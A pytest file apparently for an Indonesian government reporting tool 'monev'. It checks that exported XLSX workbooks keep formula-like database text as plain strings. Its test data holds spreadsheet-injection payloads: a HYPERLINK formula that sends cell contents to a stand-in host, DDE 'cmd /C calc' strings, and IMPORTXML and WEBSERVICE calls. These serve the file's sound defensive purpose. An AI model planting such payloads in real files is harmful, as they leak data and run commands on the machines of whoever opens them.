"""Every workbook the product writes keeps hostile text as text (issue 23): the report, the
plan template, the evidence index of ``monev export --bukti`` and the kabupaten recap, each
written through ``monev`` from a database whose names, notes and captions start like
spreadsheet formulas. No cell of any of them may be a formula."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import text
from sqlalchemy.engine import Engine

from storage.data.db import session_scope
from tests.office_pair import _stage, second_office
from tests.test_bukti import _cli

HYPERLINK = '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"Klik untuk melihat bukti")'
HOSTILE = {
    "caption": HYPERLINK,
    "sub": "=1+1 Sub kegiatan jahat",
    "program": "+cmd|' /C calc'!A0",
    "ket": "@SUM(A1:A9)",
    "hambatan": "-2+3*cmd|' /C calc'!A0",
    "bidang": '=IMPORTXML("http://contoh.invalid","//a")',
    "office": '=WEBSERVICE("http://contoh.invalid")',
    "uploader": "=2+2 Operator",
}


def _poison(engine: Engine, sub_id: int, program_id: int, bidang_id: int, office: int) -> None:
    """Hostile text in every kind of field a workbook shows."""
    with session_scope(engine) as s:
        c = s.connection()
        c.execute(text("UPDATE bukti SET caption = :v"), {"v": HOSTILE["caption"]})
        c.execute(
            text("UPDATE node SET nama = :v WHERE id = :i"), {"v": HOSTILE["sub"], "i": sub_id}
        )
        c.execute(
            text("UPDATE node SET nama = :v WHERE id = :i"),
            {"v": HOSTILE["program"], "i": program_id},
        )
        c.execute(
            text("UPDATE realisasi SET ket = :v WHERE node_id = :i"),
            {"v": HOSTILE["ket"], "i": sub_id},
        )
        c.execute(text("UPDATE narasi SET hambatan = :v"), {"v": HOSTILE["hambatan"]})
        c.execute(
            text("UPDATE bidang SET nama = :v WHERE id = :i"),
            {"v": HOSTILE["bidang"], "i": bidang_id},
        )
        c.execute(
            text("UPDATE perangkat_daerah SET nama = :v, nama_kepala = :k WHERE id = :i"),
            {"v": HOSTILE["office"], "k": HOSTILE["uploader"], "i": office},
        )
        c.execute(
            text("UPDATE app_user SET nama = :v WHERE role = 'operator'"),
            {"v": HOSTILE["uploader"]},
        )


def _formulas(data: bytes) -> tuple[list[str], set[str]]:
    """(cells that are formulas, every text value) of an XLSX."""
    wb = load_workbook(io.BytesIO(data))
    formulas, values = [], set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{ws.title}!{cell.coordinate}: {cell.value}")
                if isinstance(cell.value, str):
                    values.add(cell.value)
    return formulas, values


def _shows(values: set[str], hostile: str) -> bool:
    return any(hostile in v for v in values)


def test_every_workbook_keeps_formula_text_as_text(
    seeded: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    data_dir = tmp_path / "data"
    a = _stage(seeded, 1, "Diskoperindag", "Amber", 9810, data_dir)
    second_office(seeded, tmp_path)
    _poison(seeded, a.sub_id, a.program_id, a.bidang_id, a.opd_id)
    out = tmp_path / "out"
    out.mkdir()

    def run(*argv: str) -> None:
        assert _cli(monkeypatch, seeded, data_dir, list(argv)) == 0, argv

    run("export", "--opd", "1", "--tahun", "2022", "--tw", "3", "-o", str(out / "laporan.xlsx"))
    run("template", "--opd", "1", "--tahun", "2022", "-o", str(out / "templat.xlsx"))
    run("export", "--opd", "1", "--tahun", "2022", "--tw", "4", "--bukti", "-o", str(out / "b.zip"))
    run("export", "--rekap", "--tahun", "2022", "--tw", "3", "-o", str(out / "rekap.xlsx"))
    with zipfile.ZipFile(out / "b.zip") as z:
        index = z.read("indeks-bukti.xlsx")
        report_tw4 = next(
            z.read(n) for n in z.namelist() if n.endswith(".xlsx") and "indeks" not in n
        )
    books = {
        "laporan": ((out / "laporan.xlsx").read_bytes(), ("sub", "program", "ket", "hambatan")),
        "templat": ((out / "templat.xlsx").read_bytes(), ("sub", "program")),
        "indeks bukti": (index, ("caption", "uploader", "bidang", "sub")),
        "laporan dalam ZIP": (report_tw4, ("sub", "program")),
        "rekap": ((out / "rekap.xlsx").read_bytes(), ("office",)),
    }
    for name, (data, expected) in books.items():
        formulas, values = _formulas(data)
        assert formulas == [], f"{name}: {formulas[:5]}"
        # the hostile text is there, as the text it was: the test saw what it checks
        missing = [k for k in expected if not _shows(values, HOSTILE[k])]
        assert not missing, f"{name} does not show {missing}"


def test_export_bukti_index_keeps_a_hyperlink_caption_as_text(
    seeded: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``monev export --bukti`` with a caption ``=HYPERLINK(…)``: its index cell is a string,
    the caption exactly as typed, and the only links are the bot's own to the files."""
    data_dir = tmp_path / "data"
    _stage(seeded, 1, "Diskoperindag", "Amber", 9810, data_dir)
    with session_scope(seeded) as s:
        s.connection().execute(text("UPDATE bukti SET caption = :v"), {"v": HYPERLINK})
    target = tmp_path / "bukti.zip"
    argv = ["export", "--tahun", "2022", "--tw", "4", "--bukti", "-o", str(target)]
    assert _cli(monkeypatch, seeded, data_dir, argv) == 0
    with zipfile.ZipFile(target) as z:
        wb = load_workbook(io.BytesIO(z.read("indeks-bukti.xlsx")))
        names = set(z.namelist())
    ws = wb["Indeks bukti"]
    headers = [c.value for c in ws[1]]
    note = ws.cell(row=2, column=headers.index("Catatan") + 1)
    assert note.value == HYPERLINK and note.data_type == "s"
    links = [c.hyperlink.target for row in ws.iter_rows() for c in row if c.hyperlink]
    assert links and all(link in names for link in links)
